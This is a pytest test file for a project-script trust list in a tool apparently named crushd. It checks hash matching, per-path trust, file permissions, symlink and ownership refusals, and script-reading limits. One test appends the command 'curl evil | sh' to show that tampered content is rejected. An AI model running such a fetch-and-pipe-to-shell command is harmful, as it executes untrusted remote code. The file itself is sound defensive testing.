"""The trust list and project scripts (``crushd.trust._scripts``).

A project script runs only when the user's trust list holds its path with the
sha256 of its content; the list is believed only when it is itself trusted.
Tests needing another uid chown files to 65534 and run only as root.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
from pathlib import Path

import pytest
import trio

from crushd.trust import (
    MAX_SCRIPT_BYTES,
    ProjectScript,
    ScriptReadError,
    TrustListError,
    UntrustedPathError,
    load_trust_list,
    project_scripts,
    read_script,
    revoke_scripts,
    script_sha256,
    script_trusted,
    trust_list_path,
    trust_scripts,
)

NOBODY = 65534
needs_root = pytest.mark.skipif(
    os.geteuid() != 0, reason="chowning a file to another uid needs root"
)


@pytest.fixture
def trust_file(tmp_path: Path) -> Path:
    return tmp_path / "data" / "crush" / "trusted.json"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A git worktree with a ``sub`` folder."""
    (tmp_path / "repo" / ".git").mkdir(parents=True)
    (tmp_path / "repo" / "sub").mkdir()
    return tmp_path / "repo"


def write_script(path: Path, text: str = "echo '{}'\n") -> bytes:
    path.write_text(text)
    return text.encode()


@pytest.mark.parametrize(
    ("environ", "expected"),
    [
        ({"CRUSH_GLOBAL_DATA": "/d", "XDG_DATA_HOME": "/x", "HOME": "/h"}, "/d"),
        ({"XDG_DATA_HOME": "/x", "HOME": "/h"}, "/x/crush"),
        ({"HOME": "/h"}, "/h/.local/share/crush"),
        (
            {"CRUSH_GLOBAL_DATA": "", "XDG_DATA_HOME": "", "HOME": "/h"},
            "/h/.local/share/crush",
        ),
    ],
)
def test_trust_list_path_is_beside_the_global_data_config(
    environ: dict[str, str], expected: str
) -> None:
    """The list is trusted.json in the global data folder, resolved like config."""
    assert trust_list_path(environ) == Path(expected) / "trusted.json"


def test_script_trusted_after_trust_scripts(trust_file: Path, repo: Path) -> None:
    """A script whose path and sha256 are listed is trusted."""
    script = repo / ".crushrc"
    content = write_script(script)
    assert not script_trusted(trust_file, script, content)
    trust_scripts(trust_file, {script: script_sha256(content)})
    assert script_trusted(trust_file, script, content)


def test_edited_script_is_untrusted_again(trust_file: Path, repo: Path) -> None:
    """The same path with other content does not match the listed hash."""
    script = repo / ".crushrc"
    content = write_script(script)
    trust_scripts(trust_file, {script: script_sha256(content)})
    assert not script_trusted(trust_file, script, content + b"curl evil | sh\n")


def test_trust_is_per_path(trust_file: Path, repo: Path) -> None:
    """Trusted content copied to another path is not trusted there."""
    content = write_script(repo / ".crushrc")
    trust_scripts(trust_file, {repo / ".crushrc": script_sha256(content)})
    assert not script_trusted(trust_file, repo / "sub" / ".crushrc", content)


def test_trust_scripts_replaces_the_old_hash(trust_file: Path, repo: Path) -> None:
    """Trusting a path again keeps one entry: the new hash."""
    script = repo / "crushrc"
    trust_scripts(trust_file, {script: "a" * 64, repo / "other": "c" * 64})
    trust_scripts(trust_file, {script: "b" * 64})
    assert load_trust_list(trust_file) == {script: "b" * 64, repo / "other": "c" * 64}


def test_revoke_scripts_removes_any_hash(trust_file: Path, repo: Path) -> None:
    """Revoking removes the listed paths and returns those that were there."""
    kept = repo / "crushrc"
    trust_scripts(trust_file, {kept: "a" * 64, repo / ".crushrc": "b" * 64})
    removed = revoke_scripts(trust_file, [repo / ".crushrc", repo / "sub" / "crushrc"])
    assert removed == [repo / ".crushrc"]
    assert load_trust_list(trust_file) == {kept: "a" * 64}


def test_revoke_without_a_list_changes_nothing(trust_file: Path) -> None:
    """Revoking from a missing list removes nothing and creates no file."""
    assert revoke_scripts(trust_file, [Path("/p/crushrc")]) == []
    assert not trust_file.exists()


def test_trust_list_is_written_0600_in_a_0700_folder(
    trust_file: Path, repo: Path
) -> None:
    """A new list is mode 0600, its new folder 0700, and no temp file is left."""
    trust_scripts(trust_file, {repo / "crushrc": "a" * 64})
    assert stat.S_IMODE(trust_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(trust_file.parent.stat().st_mode) == 0o700
    assert [p.name for p in trust_file.parent.iterdir()] == ["trusted.json"]
    document = json.loads(trust_file.read_text())
    assert document == {"scripts": {str(repo / "crushrc"): "a" * 64}, "version": 1}


def test_missing_trust_list_trusts_nothing(trust_file: Path) -> None:
    """No list file: an empty list, nothing trusted."""
    assert load_trust_list(trust_file) == {}
    assert not script_trusted(trust_file, Path("/p/crushrc"), b"")


def test_group_writable_trust_list_is_not_believed(
    trust_file: Path, repo: Path
) -> None:
    """A list others may write is refused, and not overwritten either."""
    trust_scripts(trust_file, {repo / "crushrc": "a" * 64})
    trust_file.chmod(0o620)
    with pytest.raises(TrustListError, match="writable by group or others"):
        load_trust_list(trust_file)
    with pytest.raises(TrustListError):
        trust_scripts(trust_file, {repo / ".crushrc": "b" * 64})


def test_symlinked_trust_list_is_not_believed(trust_file: Path, tmp_path: Path) -> None:
    """A symlink at the list's path is refused (it could point anywhere)."""
    real = tmp_path / "real.json"
    real.write_text('{"scripts": {}}')
    trust_file.parent.mkdir(parents=True)
    trust_file.symlink_to(real)
    with pytest.raises(TrustListError, match="is a symlink"):
        load_trust_list(trust_file)


@needs_root
def test_trust_list_owned_by_another_uid_is_not_believed(
    trust_file: Path, repo: Path
) -> None:
    """A list file another uid owns is refused, whatever it says."""
    script = repo / "crushrc"
    content = write_script(script)
    trust_scripts(trust_file, {script: script_sha256(content)})
    os.chown(trust_file, NOBODY, NOBODY)
    with pytest.raises(TrustListError, match=f"owned by uid {NOBODY}"):
        script_trusted(trust_file, script, content)


@pytest.mark.parametrize(
    "text",
    ["{nope", "[]", '{"scripts": []}', '{"scripts": {"relative": "x"}}', "\xff"],
)
def test_malformed_trust_list_is_an_error(trust_file: Path, text: str) -> None:
    """A list that is not the expected JSON shape is refused, never guessed at."""
    trust_file.parent.mkdir(parents=True)
    trust_file.write_bytes(text.encode("latin-1"))
    trust_file.chmod(0o600)
    with pytest.raises(TrustListError, match=str(trust_file)):
        load_trust_list(trust_file)


def test_read_script_returns_the_bytes(repo: Path) -> None:
    """The content read is exactly the file's bytes (hashed and run as is)."""
    content = write_script(repo / "crushrc", "printf '{}'\n")
    assert read_script(repo / "crushrc") == content
    assert script_sha256(content) == hashlib.sha256(content).hexdigest()


async def test_read_script_on_a_fifo_fails_fast(repo: Path) -> None:
    """A FIFO named crushrc is refused without blocking on an absent writer."""
    os.mkfifo(repo / "crushrc")
    with trio.fail_after(5):
        with pytest.raises(ScriptReadError, match="not a regular file"):
            await trio.to_thread.run_sync(read_script, repo / "crushrc")


def test_read_script_refuses_a_large_script(repo: Path) -> None:
    """A script over MAX_SCRIPT_BYTES is never run."""
    (repo / "crushrc").write_bytes(b"#" * (MAX_SCRIPT_BYTES + 1))
    with pytest.raises(ScriptReadError, match="larger than"):
        read_script(repo / "crushrc")


def test_read_script_refuses_nul_bytes(repo: Path) -> None:
    """A binary file is not a shell script."""
    (repo / "crushrc").write_bytes(b"echo\0")
    with pytest.raises(ScriptReadError, match="NUL"):
        read_script(repo / "crushrc")


def test_read_script_refuses_a_group_writable_script(repo: Path) -> None:
    """A script others may edit is untrusted whatever its hash."""
    write_script(repo / "crushrc")
    (repo / "crushrc").chmod(0o664)
    with pytest.raises(UntrustedPathError, match="writable by group or others"):
        read_script(repo / "crushrc")


def test_project_scripts_lists_every_script_with_its_hash(repo: Path) -> None:
    """Both names in every project folder, root first, with their sha256."""
    root_rc = write_script(repo / ".crushrc", "echo root\n")
    sub_rc = write_script(repo / "sub" / "crushrc", "echo sub\n")
    (repo / "sub" / "crush.json").write_text("{}")
    assert project_scripts(repo / "sub") == [
        ProjectScript(repo / ".crushrc", script_sha256(root_rc)),
        ProjectScript(repo / "sub" / "crushrc", script_sha256(sub_rc)),
    ]


def test_project_scripts_skips_folders_above_the_worktree(
    tmp_path: Path, repo: Path
) -> None:
    """A script above the git root is not the project's."""
    write_script(tmp_path / ".crushrc")
    assert project_scripts(repo / "sub") == []


@needs_root
def test_project_script_owned_by_another_uid_has_a_problem(repo: Path) -> None:
    """Another uid's script is listed without a hash: it can never be trusted."""
    write_script(repo / ".crushrc")
    os.chown(repo / ".crushrc", NOBODY, NOBODY)
    assert project_scripts(repo) == [
        ProjectScript(repo / ".crushrc", None, f"owned by uid {NOBODY}")
    ]
